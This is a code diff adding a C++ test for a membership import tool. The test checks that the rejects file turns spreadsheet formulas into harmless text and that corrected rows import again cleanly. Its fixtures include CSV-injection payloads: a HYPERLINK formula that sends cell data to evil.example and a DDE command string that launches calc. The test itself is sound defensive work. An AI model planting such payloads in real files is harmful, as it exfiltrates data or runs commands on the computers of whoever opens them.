@@ -298,6 +298,72 @@ TEST_P(ImportTest, HugeLineIsRejectedAndTheRestImported) {
   EXPECT_EQ(rejects[0].line, "3");
 }
 
+// A member's own fields go back into the rejects file, which a data officer
+// opens in a spreadsheet: a cell that starts a formula must arrive as text.
+TEST_P(ImportTest, TheRejectsFileNeutralisesFormulasAndReimportsCleanly) {
+  std::string s = kHeader;
+  s += "F1,\"=HYPERLINK(\"\"http://evil.example/"
+       "?d=\"\"&A1,\"\"click\"\")\",Smith,,,,,Atlantis,,,,,\n";
+  s += "F2,@SUM(1+1),Jones,,,,,Atlantis,,,,,\n";
+  s += "F3,Cy,+cmd|' /C calc'!A0,,,,,Atlantis,,,,,\n";
+  s += "F4,Di,-Smith,,,+44 7700 900123,,Atlantis,,,,,\n";
+  s += "F5,\"\tTab\",\"\rCr\",,,,,Atlantis,,,,,\n";
+  auto sum = Import(s);
+  ASSERT_TRUE(sum) << sum.error().ToString();
+  ASSERT_EQ(sum->rejected, 5u);
+  const std::string text = ReadFile(sum->rejects_file);
+  // No cell (a field at the start of a line or after a comma) opens with a
+  // formula character, quoted or not.
+  csv::Reader r(text);
+  csv::Record rec;
+  std::string err;
+  int rows = 0;
+  while (r.Read(&rec, &err) == csv::Next::kRecord) {
+    ++rows;
+    for (const std::string& f : rec.fields) {
+      EXPECT_TRUE(f.empty() || std::string_view("=+-@\t\r").find(f[0]) == std::string_view::npos)
+          << f;
+    }
+  }
+  EXPECT_EQ(rows, 6);
+  EXPECT_NE(text.find("\"'=HYPERLINK(\"\"http://evil.example/"), std::string::npos) << text;
+  EXPECT_NE(text.find("\"'@SUM(1+1)\""), std::string::npos);
+  EXPECT_NE(text.find("\"'+cmd|' /C calc'!A0\""), std::string::npos);
+  EXPECT_NE(text.find("\"'+44 7700 900123\""), std::string::npos);
+
+  // The officer corrects the unit in the rejects file's rows and imports them
+  // again: the apostrophes do not end up in the register.
+  auto quoted = [](const std::vector<std::string>& row) {  // RFC 4180, nothing more
+    std::string line;
+    for (size_t i = 0; i < row.size(); ++i) {
+      line += i ? ",\"" : "\"";
+      for (char c : row[i]) line += c == '"' ? std::string("\"\"") : std::string(1, c);
+      line += '"';
+    }
+    return line + "\n";
+  };
+  std::string fixed = kHeader;
+  csv::Reader again(text);
+  bool header = true;
+  while (again.Read(&rec, &err) == csv::Next::kRecord) {
+    if (header) {
+      header = false;
+      continue;
+    }
+    std::vector<std::string> row(rec.fields.begin() + 3, rec.fields.end());
+    row[7] = "E14000530";
+    row[0] = "G" + row[0];
+    fixed += quoted(row);
+  }
+  auto sum2 = Import(fixed, {}, "fixed.csv");
+  ASSERT_TRUE(sum2) << sum2.error().ToString();
+  EXPECT_EQ(sum2->imported, 5u) << ReadFile(sum2->rejects_file);
+  EXPECT_EQ(sum2->rejected, 0u);
+  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members WHERE first_name = '@SUM(1+1)'"), 1);
+  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members WHERE last_name = '-Smith'"), 1);
+  EXPECT_EQ(env_.Count("SELECT COUNT(*) FROM members WHERE first_name LIKE '''%'"), 0);
+}
+
 TEST_P(ImportTest, StoreFailureLeavesNoHalfWrittenMembers) {
   store::testing::FaultyStore faulty(*env_.store_);
   faulty.FailNthWrite(2, store::testing::FaultMode::kAfterCallback);
